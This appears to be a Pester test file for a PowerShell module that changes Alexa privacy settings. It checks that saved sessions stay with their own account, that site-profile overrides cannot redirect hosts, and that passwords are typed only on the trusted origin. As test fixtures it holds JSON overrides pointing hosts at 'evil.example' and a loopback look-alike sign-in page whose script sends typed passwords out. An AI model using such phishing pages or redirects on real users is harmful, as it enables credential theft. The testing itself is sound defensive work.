# Each account is changed only under its own name, and credentials go only where this command
# says: a saved session is used only for the account it records and never names the site, a
# site-profile override cannot move a host whatever the spelling of its keys, and a secret is typed
# only into a field on the session's origin. (Session files that are links, FIFOs or an earlier
# version's side files: Security.SessionFiles.Tests.ps1.)
BeforeAll {
    . (Join-Path $PSScriptRoot 'common.ps1')
    Import-Module $ModulePath -Force
    $script:Replica = Start-TestReplica
    $script:Base = $Replica.BaseUri
    # A second site on another loopback port: where a planted file would send the browser.
    $script:Other = Start-TestReplica

    function Get-Requests { param($Site) (Invoke-ReplicaAdmin $Site -Path '/__replica/stats').requests }
}

AfterAll {
    Get-Module AlexaPrivacy | Remove-Module -Force
    Stop-TestReplica $Replica
    Stop-TestReplica $Other
}

Describe 'A saved session is used only for its own account' {
    It 'refuses a saved session of one account given with another account''s email, and changes neither' {
        $a = New-ReplicaAccount $Replica -Settings @{ VoiceRecordingReview = $true }
        $b = New-ReplicaAccount $Replica -Settings @{ VoiceRecordingReview = $true }
        $shared = Join-Path $TestDrive 'shared.json'
        Connect-AlexaAccount -Email $a.Email -Password $a.SecurePassword -BaseUri $Base -SessionPath $shared | Disconnect-AlexaAccount

        $err = $null
        $out = Set-AlexaDataSetting -Email $b.Email -Password $b.SecurePassword -SessionPath $shared -BaseUri $Base -Enabled $false -PassThru -Confirm:$false -ErrorVariable err -ErrorAction SilentlyContinue
        $out | Should -BeNullOrEmpty
        $err.Count | Should -Be 1
        $err[0].FullyQualifiedErrorId | Should -BeLike 'AlexaSessionAccountMismatch,*'
        $err[0].CategoryInfo.Category | Should -Be 'InvalidArgument'
        $err[0].Exception.Message | Should -Match ([regex]::Escape($a.Email))
        $err[0].Exception.Message | Should -Match ([regex]::Escape($b.Email))
        $err[0].TargetObject.Email | Should -Be $b.Email
        $err[0].TargetObject.Password | Should -Be '(secret)'
        # What the replica stores: A is untouched, B is untouched and was never signed in.
        (Get-Stored $a.Email).VoiceRecordingReview | Should -BeTrue
        (Get-Stored $b.Email).VoiceRecordingReview | Should -BeTrue
        (Get-ReplicaAccount $Replica $a.Email).signInCount | Should -Be 1
        (Get-ReplicaAccount $Replica $b.Email).signInCount | Should -Be 0

        # Connect-AlexaAccount, and another marketplace for the right email, are refused the same way.
        $err = $null
        Connect-AlexaAccount -Email $b.Email -Password $b.SecurePassword -SessionPath $shared -BaseUri $Base -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err[0].FullyQualifiedErrorId | Should -BeLike 'AlexaSessionAccountMismatch,*'
        $err = $null
        Get-AlexaDataSetting -Email $a.Email -Marketplace amazon.de -SessionPath $shared -BaseUri $Base -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err[0].FullyQualifiedErrorId | Should -BeLike 'AlexaSessionAccountMismatch,*'
        (Get-ReplicaAccount $Replica $b.Email).signInCount | Should -Be 0

        # The file is still A's, and serves A.
        $session = Connect-AlexaAccount -SessionPath $shared -BaseUri $Base -ErrorAction Stop
        $session.Account | Should -Be $a.Email
        $session.Reused | Should -BeTrue
        Disconnect-AlexaAccount -Session $session
    }

    It 'works each CSV row on its own account when two rows share a SessionPath, and names the true account' {
        $a = New-ReplicaAccount $Replica -Settings @{ VoiceRecordingReview = $true }
        $b = New-ReplicaAccount $Replica -Settings @{ VoiceRecordingReview = $true }
        $shared = Join-Path $TestDrive 'copied-line.session'
        Connect-AlexaAccount -Email $a.Email -Password $a.SecurePassword -BaseUri $Base -SessionPath $shared | Disconnect-AlexaAccount
        $csv = Join-Path $TestDrive 'shared-path.csv'
        @([pscustomobject]@{ Email = $a.Email; Password = ''; SessionPath = $shared }
            [pscustomobject]@{ Email = $b.Email; Password = $b.Password; SessionPath = $shared }) | Export-Csv $csv -NoTypeInformation

        $err = $null
        $out = Import-Csv $csv | Set-AlexaDataSetting -Enabled $false -BaseUri $Base -PassThru -Confirm:$false -ErrorVariable err -ErrorAction SilentlyContinue -WarningAction SilentlyContinue
        @($out).Count | Should -Be 1
        $out.Account | Should -Be $a.Email
        $out.Changed | Should -BeTrue
        $err.Count | Should -Be 1
        $err[0].FullyQualifiedErrorId | Should -BeLike 'AlexaSessionAccountMismatch,*'
        $err[0].TargetObject.Email | Should -Be $b.Email
        ($err[0] | Format-List * -Force | Out-String -Width 500) | Should -Not -Match ([regex]::Escape($b.Password))
        # A was changed under its own row only; B was neither changed nor signed in.
        (Get-Stored $a.Email).VoiceRecordingReview | Should -BeFalse
        (Get-Stored $b.Email).VoiceRecordingReview | Should -BeTrue
        (Get-ReplicaAccount $Replica $b.Email).signInCount | Should -Be 0
    }

    It 'takes no site from a saved session: only the marketplace''s own host, or -BaseUri on the command' {
        $a = New-ReplicaAccount $Replica
        $file = Join-Path $TestDrive 'site.session'
        Connect-AlexaAccount -Email $a.Email -Password $a.SecurePassword -BaseUri $Base -SessionPath $file | Disconnect-AlexaAccount
        $before = Get-Requests $Other

        $err = $null
        Get-AlexaDataSetting -SessionPath $file -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err[0].FullyQualifiedErrorId | Should -BeLike 'AlexaUnsafeOrigin,*'
        $err[0].CategoryInfo.Category | Should -Be 'SecurityError'
        $err[0].ErrorDetails.RecommendedAction | Should -Match ([regex]::Escape("-BaseUri $Base"))
        $err = $null
        Get-AlexaDataSetting -SessionPath $file -BaseUri $Other.BaseUri -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err[0].FullyQualifiedErrorId | Should -BeLike 'AlexaSessionAccountMismatch,*'
        Get-Requests $Other | Should -Be $before

        (Get-AlexaDataSetting -SessionPath $file -BaseUri $Base -Name VoiceRecordingReview -ErrorAction Stop).Account | Should -Be $a.Email
        (Get-ReplicaAccount $Replica $a.Email).signInCount | Should -Be 1
    }
}

Describe 'Site profile overrides cannot move a host, whatever their spelling' {
    It 'refuses an override whose marketplaces are given as <Case>, checked on the hosts it would load' -ForEach @(
        @{ Case = '"Marketplaces"'; Json = '{ "Marketplaces": { "amazon.com": { "host": "evil.example", "cookieSuffix": "main", "language": "en_US" } } }' }
        @{ Case = '"MARKETPLACES"'; Json = '{ "MARKETPLACES": { "amazon.com": { "host": "evil.example" } } }' }
        @{ Case = 'a marketplace in capitals'; Json = '{ "marketplaces": { "AMAZON.COM": { "host": "evil.example", "cookieSuffix": "main", "language": "en_US" } } }' }
        @{ Case = '"Host"'; Json = '{ "Marketplaces": { "amazon.com": { "Host": "evil.example" } } }' }
    ) {
        $path = Join-Path $TestDrive 'spelling.json'
        $Json | Set-Content $path
        $account = New-ReplicaAccount $Replica
        $thrown = $null
        try { Get-AlexaDataSetting -Email $account.Email -Password $account.SecurePassword -SiteProfile $path -ErrorAction Stop } catch { $thrown = $_ }
        $thrown.FullyQualifiedErrorId | Should -BeLike 'AlexaSiteProfileInvalid*'
        $thrown.Exception.Message | Should -Match 'host'
        { Get-AlexaSiteProfile -Path $path -ErrorAction Stop } | Should -Throw -ErrorId 'AlexaSiteProfileInvalid*'
        (Get-ReplicaAccount $Replica $account.Email).signInCount | Should -Be 0
    }

    It 'lays a key spelt in another case over the module''s own, keeping every marketplace' {
        $path = Join-Path $TestDrive 'other-case.json'
        '{ "Marketplaces": { "amazon.de": { "host": "www.amazon.de" } }, "Timeouts": { "actionSeconds": 21 } }' | Set-Content $path
        $profile = Get-AlexaSiteProfile -Path $path -WarningAction SilentlyContinue
        @($profile.Marketplaces.Keys).Count | Should -Be 12
        $profile.Marketplaces['amazon.com'].Host | Should -Be 'www.amazon.com'
        $profile.Timeouts.ActionSeconds | Should -Be 21
    }

    It 'refuses an override that gives a key twice (<Case>) with AlexaSiteProfileInvalid' -ForEach @(
        @{ Case = 'the same spelling'; Json = '{ "timeouts": { "actionSeconds": 5, "actionSeconds": 6 } }'; Key = 'timeouts.actionSeconds' }
        @{ Case = 'two spellings'; Json = '{ "marketplaces": { "amazon.com": { "host": "www.amazon.com" } }, "Marketplaces": { "amazon.com": { "host": "evil.example" } } }'; Key = 'Marketplaces' }
    ) {
        $path = Join-Path $TestDrive 'repeated.json'
        $Json | Set-Content $path
        $thrown = $null
        try { Get-AlexaSiteProfile -Path $path -ErrorAction Stop } catch { $thrown = $_ }
        $thrown.FullyQualifiedErrorId | Should -BeLike 'AlexaSiteProfileInvalid*'
        $thrown.CategoryInfo.Category | Should -Be 'InvalidData'
        $thrown.Exception.Message | Should -Match ([regex]::Escape("'$Key'"))
        $account = New-ReplicaAccount $Replica
        $thrown = $null
        try { Get-AlexaDataSetting -Email $account.Email -Password $account.SecurePassword -BaseUri $Base -SiteProfile $path -ErrorAction Stop } catch { $thrown = $_ }
        $thrown.FullyQualifiedErrorId | Should -BeLike 'AlexaSiteProfileInvalid*'
        (Get-ReplicaAccount $Replica $account.Email).signInCount | Should -Be 0
    }
}

Describe 'A secret is typed only on the session''s origin' {
    It 'types no password when the page goes to another origin after the password step began' {
        # The trusted origin shows the password step; typing the email there removes its password field
        # and sends the browser to a look-alike page on a second origin, which records what it receives,
        # typed or sent.
        $ports = 1..2 | ForEach-Object { $l = [Net.Sockets.TcpListener]::new([Net.IPAddress]::Loopback, 0); $l.Start(); $l.LocalEndpoint.Port; $l.Stop() }
        $listener = [Net.HttpListener]::new()
        $ports | ForEach-Object { $listener.Prefixes.Add("http://127.0.0.1:$_/") }
        $listener.Start()
        $received = [Collections.ArrayList]::Synchronized([Collections.ArrayList]::new())
        $server = [powershell]::Create()
        $null = $server.AddScript({
                param($Listener, $Received, $Trusted, $Other)
                $moving = '<!DOCTYPE html><html><body><form name="signIn" method="post" action="/ap/signin">' +
                '<input type="email" id="ap_email" name="email" oninput="document.getElementById(''ap_password'').remove(); location.href=''http://127.0.0.1:' + $Other + '/ap/signin''">' +
                '<input type="password" id="ap_password" name="password"><input type="submit" id="signInSubmit" value="Sign in"></form></body></html>'
                # Its password field reports whatever is typed into it at once, as a page's script can: a
                # secret typed there leaks without any submission.
                $lookAlike = '<!DOCTYPE html><html><body><form name="signIn" method="post" action="/ap/signin">' +
                '<input type="email" id="ap_email" name="email" value="victim@example.com"><input type="password" id="ap_password" name="password" oninput="fetch(''/typed?v='' + encodeURIComponent(this.value))">' +
                '<input type="submit" id="signInSubmit" value="Sign in"></form></body></html>'
                while ($Listener.IsListening) {
                    try { $context = $Listener.GetContext() } catch { break }
                    $request = $context.Request
                    $body = [IO.StreamReader]::new($request.InputStream).ReadToEnd()
                    $null = $Received.Add("$($request.HttpMethod) $($request.Url) $body")
                    $response = $context.Response
                    if ($request.Url.Port -eq $Trusted -and $request.Url.AbsolutePath -ne '/ap/signin') {
                        $response.StatusCode = 302
                        $response.RedirectLocation = "http://127.0.0.1:$Trusted/ap/signin"
                    }
                    else {
                        $bytes = [Text.Encoding]::UTF8.GetBytes($(if ($request.Url.Port -eq $Trusted) { $moving } else { $lookAlike }))
                        $response.ContentType = 'text/html; charset=utf-8'
                        $response.OutputStream.Write($bytes, 0, $bytes.Length)
                    }
                    $response.Close()
                }
            }).AddArgument($listener).AddArgument($received).AddArgument($ports[0]).AddArgument($ports[1])
        $null = $server.BeginInvoke()
        try {
            $err = $null
            $session = Connect-AlexaAccount -Email 'victim@example.com' -Password (ConvertTo-TestSecureString 'never-typed-7') -BaseUri "http://127.0.0.1:$($ports[0])/" -ErrorVariable err -ErrorAction SilentlyContinue
            $session | Should -BeNullOrEmpty
            $err[0].FullyQualifiedErrorId | Should -BeLike 'AlexaUnsafeOrigin*'
            $err[0].ToString() | Should -Match "127\.0\.0\.1:$($ports[1])"
            # The look-alike page was reached, and nothing was sent to it.
            ($received -match "^GET http://127.0.0.1:$($ports[1])/ap/signin") | Should -Not -BeNullOrEmpty
            ($received -match "^POST http://127.0.0.1:$($ports[1])") | Should -BeNullOrEmpty
            ($received -match 'never-typed-7') | Should -BeNullOrEmpty
        }
        finally {
            $listener.Stop(); $listener.Close()
            $server.Dispose()
        }
    }
}
